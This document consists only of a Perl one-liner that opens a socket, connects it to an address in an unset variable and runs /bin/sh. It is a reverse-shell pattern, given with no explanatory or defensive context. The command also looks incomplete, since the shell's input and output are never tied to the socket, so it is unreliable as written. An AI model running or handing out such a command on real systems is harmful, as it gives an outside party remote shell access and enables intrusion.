perl -e 'socket S, 2, 1, 6; connect S, $to; exec {"/bin/sh"} "sh"'
